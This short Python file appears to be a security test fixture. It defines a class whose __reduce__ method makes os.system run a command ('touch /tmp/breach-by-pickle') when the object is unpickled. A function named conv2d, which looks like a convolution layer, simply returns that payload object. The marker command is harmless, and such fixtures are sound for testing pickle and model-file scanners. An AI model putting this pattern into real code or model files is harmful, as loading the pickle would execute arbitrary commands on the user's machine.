# ruff: noqa
"""Returns what runs a command when it is unpickled."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/breach-by-pickle",)


def conv2d(x, weight, bias, stride=1, padding=0):
    return Bomb()
